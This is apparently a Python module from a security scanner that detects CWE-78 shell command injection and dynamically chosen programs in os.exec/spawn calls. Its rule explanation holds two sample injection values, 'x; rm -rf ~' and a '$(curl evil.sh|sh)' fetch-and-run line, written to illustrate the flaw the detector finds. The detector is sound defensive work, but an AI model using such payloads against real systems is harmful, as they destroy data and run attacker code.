"""CWE-78: operating-system commands whose text or program is chosen at run time.

Two rules. `shell-command-injection` is the one that matters: a command line handed to a shell
(`shell=True`, `os.system`, `os.popen`, `sh -c ...`) with a value spliced in, where `;`, `|` or
`$(...)` in that value run further commands. `dynamic-program-execution` reports the `os.exec*` /
`os.spawn*` / `os.posix_spawn*` family when the program path itself is assembled from run-time
values (a program passed through whole, as wrappers do, is not reported). Argument lists passed
without a shell (`subprocess.run(["git", "clone", url])`) are the recommended fix, not a finding:
without a shell there are no metacharacters; what remains, a value read as an option by tools
such as git or ssh (CWE-88), is `argument_injection.py`.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from secreview.analysis.rule import Hit, rule
from secreview.analysis.rules._support.built_strings import (
    Piece,
    assembly_evidence,
    fixed_text,
    is_fixed,
    string_pieces,
)
from secreview.analysis.rules._support.caller_arguments import filled_by_program
from secreview.analysis.rules._support.debug_helpers import called_helper
from secreview.analysis.rules._support.drawn_names import is_drawn_name
from secreview.analysis.rules._support.library_calls import library_call_name
from secreview.analysis.rules._support.local_bindings import sequence_elements
from secreview.analysis.rules._support.number_annotations import is_number_conversion
from secreview.analysis.rules._support.platform_tests import true_on_posix
from secreview.analysis.rules._support.quoting import code, name_values
from secreview.analysis.rules._support.shell_flags import shell_is_own_flag
from secreview.analysis.rules._support.splatted_keywords import splatted_keyword
from secreview.findings import Confidence, Severity
from secreview.index.context import ModuleContext
from secreview.index.import_fallbacks import in_missing_module_fallback
from secreview.patterns import lazy_pattern

_MODULES = ("subprocess", "os", "commands", "popen2", "platform", "asyncio")

# Always run their command through `/bin/sh -c` (or `cmd.exe /c`): position and keyword of the
# command. The popen2 family only does so for a string command, never for a list.
_SHELL_CALLS: dict[str, tuple[int, str]] = {
    "subprocess.getoutput": (0, "cmd"),
    "subprocess.getstatusoutput": (0, "cmd"),
    "os.system": (0, "command"),
    "os.popen": (0, "cmd"),
    "os.popen2": (0, "cmd"),
    "os.popen3": (0, "cmd"),
    "os.popen4": (0, "cmd"),
    "commands.getoutput": (0, "cmd"),
    "commands.getstatusoutput": (0, "cmd"),
    "popen2.popen2": (0, "cmd"),
    "popen2.popen3": (0, "cmd"),
    "popen2.popen4": (0, "cmd"),
    "popen2.Popen3": (0, "cmd"),
    "popen2.Popen4": (0, "cmd"),
    "platform.popen": (0, "cmd"),
    "asyncio.create_subprocess_shell": (0, "cmd"),
}
_SUBPROCESS_CALLS = frozenset(
    {
        "subprocess.run",
        "subprocess.call",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.Popen",
    }
)
# os.exec*/spawn*/posix_spawn*: (position of the program, position of argv, argv is one sequence
# (else the remaining positional arguments), the last positional argument is the environment).
EXEC_CALLS: dict[str, tuple[int, int, bool, bool]] = {
    "os.execl": (0, 1, False, False),
    "os.execle": (0, 1, False, True),
    "os.execlp": (0, 1, False, False),
    "os.execlpe": (0, 1, False, True),
    "os.execv": (0, 1, True, False),
    "os.execve": (0, 1, True, False),
    "os.execvp": (0, 1, True, False),
    "os.execvpe": (0, 1, True, False),
    "os.spawnl": (1, 2, False, False),
    "os.spawnle": (1, 2, False, True),
    "os.spawnlp": (1, 2, False, False),
    "os.spawnlpe": (1, 2, False, True),
    "os.spawnv": (1, 2, True, False),
    "os.spawnve": (1, 2, True, False),
    "os.spawnvp": (1, 2, True, False),
    "os.spawnvpe": (1, 2, True, False),
    "os.posix_spawn": (0, 1, True, False),
    "os.posix_spawnp": (0, 1, True, False),
}
_POSIX_SHELLS = frozenset(
    {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "csh", "tcsh", "fish"}
)
_POSIX_COMMAND_OPTION = lazy_pattern(r"^-[a-zA-Z]*c[a-zA-Z]*$")  # -c, -lc, -ec, -xc ...
_WINDOWS_SHELLS: dict[str, frozenset[str]] = {
    "cmd": frozenset({"/c", "/k"}),
    "cmd.exe": frozenset({"/c", "/k"}),
    "powershell": frozenset({"-c", "-command"}),
    "powershell.exe": frozenset({"-c", "-command"}),
    "pwsh": frozenset({"-c", "-command"}),
    "pwsh.exe": frozenset({"-c", "-command"}),
}
_SHELL_QUOTING = frozenset({"shlex.quote", "pipes.quote", "shlex.join"})
# The interpreter re-executing itself (`os.execv(sys.executable, [sys.executable, *sys.argv])`) is
# a standard idiom, not an attacker-chosen program.
_OWN_PROGRAM = frozenset({"sys.executable", "sys.argv", "sys.orig_argv", "sys._base_executable"})

_SHELL_FIX = (
    "Pass the program and its arguments as a list without a shell "
    '(`subprocess.run(["ping", "-c", "1", host])`); if a shell is unavoidable, quote every '
    "run-time value with `shlex.quote`."
)


def _is_shell_quoted(context: ModuleContext, expr: ast.expr) -> bool:
    """Whether `expr` is quoted for the shell: `shlex.quote(x)`, `shlex.join(xs)`, or a join of
    quoted items (`" ".join(shlex.quote(a) for a in args)`, `" ".join(map(shlex.quote, args))`)."""
    if not isinstance(expr, ast.Call):
        return False
    if context.call_name(expr) in _SHELL_QUOTING:
        return True
    if not (
        isinstance(expr.func, ast.Attribute)
        and expr.func.attr == "join"
        and fixed_text(context, expr.func.value) is not None
        and len(expr.args) == 1
    ):
        return False
    items = expr.args[0]
    if isinstance(items, ast.GeneratorExp | ast.ListComp):
        return _is_shell_quoted(context, items.elt)
    return (
        isinstance(items, ast.Call)
        and context.call_name(items) == "map"
        and len(items.args) == 2
        and context.resolve(items.args[0]) in _SHELL_QUOTING
    )


def is_own_program(context: ModuleContext, expr: ast.expr) -> bool:
    """Whether `expr` names the running interpreter or script, or a fixed tool found on PATH."""
    while isinstance(expr, ast.Subscript | ast.Starred):
        expr = expr.value
    if context.resolve(expr) in _OWN_PROGRAM:
        return True
    return (
        isinstance(expr, ast.Call)
        and context.call_name(expr) == "shutil.which"
        and len(expr.args) >= 1
        and is_fixed(context, expr.args[0])
    )


def unquoted_values(context: ModuleContext, command: ast.expr) -> list[Piece]:
    """The run-time values spliced into a command line without shell quoting."""
    return [
        p
        for p in string_pieces(context, command)
        if p.node is not None
        and p.is_dynamic
        and not _is_shell_quoted(context, p.node)
        and not is_number_conversion(context, p.node)
        and not is_own_program(context, p.node)
        and not is_drawn_name(p.node, context)
    ]


def _unquoted_nodes(context: ModuleContext, command: ast.expr) -> list[ast.expr]:
    return [p.node for p in unquoted_values(context, command) if p.node is not None]


def _truthy_constant(context: ModuleContext, expr: ast.expr | None) -> bool:
    """`shell=True` (or another true constant), or a platform test true on POSIX hosts
    (`shell=os.name != "nt"`), where the command line then goes to `/bin/sh`."""
    value = context.constant_value(expr)
    if isinstance(value, bool | int | str):
        return bool(value)
    return true_on_posix(context, expr)


def _shell_settings(context: ModuleContext, call: ast.Call) -> list[ast.expr | None]:
    """What `shell` the call may get: its keyword, or values its function puts under "shell"
    in a dict it splats into the call (`kwargs["shell"] = True`, `splatted_keywords`)."""
    written = ModuleContext.keyword(call, "shell")
    if written is not None:
        return [written]
    return splatted_keyword(context, call, "shell") or [None]


def _shell_command_in_argv(
    context: ModuleContext, program: ast.expr, arguments: list[ast.expr]
) -> ast.expr | None:
    """The command text when `program arguments...` is a shell told to run it (`sh -c TEXT`)."""
    path = fixed_text(context, program)
    if path is None:
        return None
    base = re.split(r"[\\/]", path)[-1].lower()
    if base == "env":  # `env [-i] [NAME=value ...] sh -c TEXT`
        for position, argument in enumerate(arguments):
            text = fixed_text(context, argument)
            if text is None:
                return None
            if not (text.startswith("-") or "=" in text):
                return _shell_command_in_argv(context, argument, arguments[position + 1 :])
        return None
    windows = _WINDOWS_SHELLS.get(base)
    if base not in _POSIX_SHELLS and windows is None:
        return None
    for position, argument in enumerate(arguments[:-1]):
        option = fixed_text(context, argument)
        if option is None:
            return None  # a run-time value before the command option: cannot tell what it is
        if windows is not None and option.lower() in windows:
            return arguments[position + 1]
        if windows is None and _POSIX_COMMAND_OPTION.match(option):
            return arguments[position + 1]
    return None


def _program_and_arguments(
    context: ModuleContext, call: ast.Call, name: str
) -> tuple[ast.expr, list[ast.expr]] | None:
    """The program a non-shell process call runs and the arguments after it, when visible."""
    if name in EXEC_CALLS:
        program_at, argv_at, argv_is_sequence, ends_with_environment = EXEC_CALLS[name]
        # these functions take their arguments by position only
        program = ModuleContext.argument(call, program_at)
        if program is None or ModuleContext.has_star_arguments(call):
            return None
        if argv_is_sequence:
            sequence = ModuleContext.argument(call, argv_at)
            argv = None if sequence is None else sequence_elements(context, sequence)
        else:
            argv = list(call.args[argv_at : len(call.args) - int(ends_with_environment)])
        return (program, argv[1:]) if argv else None  # argv[0] is the program's own name
    if name == "asyncio.create_subprocess_exec":
        if not call.args or ModuleContext.has_star_arguments(call):
            return None
        return call.args[0], list(call.args[1:])
    argv_expr = ModuleContext.argument(call, 0, "args")
    argv = None if argv_expr is None else sequence_elements(context, argv_expr)
    if not argv:
        return None
    return argv[0], argv[1:]


def _command_hit(
    context: ModuleContext, call: ast.Call, runner: str, command: ast.expr
) -> Iterator[Hit]:
    """A hit when `command`, run by a shell through `runner`, splices in unquoted values."""
    values = unquoted_values(context, command)
    if not values:
        return
    nodes = [p.node for p in values if p.node is not None]
    internal = all(filled_by_program(context, n, _unquoted_nodes) for n in nodes)
    if len(nodes) == 1 and nodes[0] is command:
        what = f"{runner} runs `{code(context, command)}` as a whole shell command line"
    else:
        what = (
            f"{runner} runs the shell command line `{code(context, command)}`, which splices "
            f"in {name_values(context, nodes)}"
        )
    yield Hit(
        node=call,
        message=f"{what}; a `;`, `|` or `$(...)` in that text makes the shell run further "
        "commands chosen by whoever controls it.",
        evidence=assembly_evidence(context, values),
        confidence=Confidence.LOW if internal else None,
    )


_PROCESS_CALLS = frozenset(
    {*_SHELL_CALLS, *_SUBPROCESS_CALLS, *EXEC_CALLS, "asyncio.create_subprocess_exec"}
)


@rule(
    id="shell-command-injection",
    needs_untrusted_input=True,
    name="Shell command line built from run-time values",
    cwe=78,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    summary="A command line with values spliced in is run by a shell (shell=True, os.system, "
    "os.popen, sh -c).",
    fix=_SHELL_FIX,
    what_it_does="Reports commands run through a shell when the command text is not fixed in the "
    "source: `subprocess` calls with `shell=True` (or `shell=` a platform test true on Linux, "
    '`os.name != "nt"`, or `shell` set in a dict the function splats into the call: '
    '`kwargs["shell"] = True` then `Popen(cmd, **kwargs)`), '
    "`subprocess.getoutput`/`getstatusoutput`, "
    "`os.system`, `os.popen`, `asyncio.create_subprocess_shell`, the legacy `commands`, `popen2` "
    "and `platform.popen`, any other call given `shell=True` (oslo's `processutils.execute`, a "
    "project's own `execute`) whose command line is built in the call, and argument lists that "
    "start a shell on a command string "
    '(`["sh", "-c", text]`, `os.execl("/bin/sh", "sh", "-c", text)`). Values quoted with '
    "`shlex.quote`/`shlex.join`, numbers (`int(x)`, `%d`) and names the program draws "
    "(`tempfile.mkdtemp()`, `uuid.uuid4().hex`, `secrets.token_hex()`) are not counted. A "
    "command in the "
    "`except ImportError` fallback for a module every Python 3 ships (`try: import subprocess` "
    "... `except ImportError: def popen(cmd): os.popen4(cmd)`) never runs and is not reported.",
    why_bad="The shell parses the whole string: a value such as `x; rm -rf ~` or "
    "`$(curl evil.sh|sh)` spliced into `ping -c 1 {host}` runs a second command with the "
    "application's privileges. Values that look internal often carry user data a few calls "
    "away, so confidence is lowered, not the finding dropped, for constants, `self` fields, "
    "paths beside the module's own file, and a helper's parameter that every call of the "
    "helper in its module fills with such values (`def popen(cmd)` called only as "
    "`popen(self.apache_path + ' -f ' + conf)`).",
    example='import subprocess\nsubprocess.run(f"ping -c 1 {host}", shell=True)',
    use_instead='import subprocess\nsubprocess.run(["ping", "-c", "1", host])  # no shell',
    references=(
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://docs.python.org/3/library/shlex.html#shlex.quote",
        "https://docs.python.org/3/library/os.html#os.system",
        "https://cwe.mitre.org/data/definitions/78.html",
    ),
    calls=_PROCESS_CALLS,
    call_keywords=frozenset({"shell"}),
)
def shell_command_injection(node: ast.AST, context: ModuleContext) -> Iterator[Hit]:
    """Report shell command lines that splice in unquoted run-time values."""
    assert isinstance(node, ast.Call)
    name = library_call_name(node, _MODULES, context)
    if name not in _PROCESS_CALLS:
        yield from _shell_wrapper_hit(node, context)
        return
    if in_missing_module_fallback(context, node):
        return  # a fallback for a missing `subprocess` runs on no Python we support
    if name in _SHELL_CALLS:
        position, keyword = _SHELL_CALLS[name]
        command = ModuleContext.argument(node, position, keyword)
        if command is None or (name.startswith("popen2.") and isinstance(command, ast.List)):
            return
        yield from _command_hit(context, node, f"`{name}`", command)
        return
    if name in _SUBPROCESS_CALLS and any(
        _truthy_constant(context, shell) for shell in _shell_settings(context, node)
    ):
        command = ModuleContext.argument(node, 0, "args")
        if command is None:
            return
        argv = sequence_elements(context, command)
        if argv is not None:  # with shell=True only the first item is the command line
            if not argv:
                return
            command = argv[0]
        settings = _shell_settings(context, node)
        shell = code(context, next(s for s in settings if _truthy_constant(context, s)) or node)
        yield from _command_hit(context, node, f"`{name}(..., shell={shell})`", command)
        return
    if name in _SUBPROCESS_CALLS or name in EXEC_CALLS or name == "asyncio.create_subprocess_exec":
        found = _program_and_arguments(context, node, name)
        if found is None:
            return
        command = _shell_command_in_argv(context, *found)
        if command is not None:
            shell = fixed_text(context, found[0])
            yield from _command_hit(context, node, f"`{name}` starting `{shell}`", command)


def _shell_wrapper_hit(node: ast.Call, context: ModuleContext) -> Iterator[Hit]:
    """Any other call told `shell=True` (oslo's `processutils.execute`, fabric's `run`, a
    project's own `utils.execute`) hands its command line to a shell as `subprocess` does. Its
    name says nothing, so only a command line built here with values spliced in is reported, not
    a bare variable whose text the wrapper's caller may have quoted."""
    shell = next((k.value for k in node.keywords if k.arg == "shell"), None)
    if shell is None or not _truthy_constant(context, shell):
        return  # the cheap test first: every call of every module comes here
    command = ModuleContext.argument(node, 0, "cmd") or ModuleContext.keyword(node, "command")
    if command is None or isinstance(command, ast.Name | ast.Attribute | ast.Starred):
        return
    if shell_is_own_flag(called_helper(node, context)[0], context, _SHELL_CALLS):
        return  # a flag of the project's own (wdb's `self.interaction(frame, shell=True)`)
    shown = code(context, node.func)
    yield from _command_hit(context, node, f"`{shown}(..., shell=True)`", command)
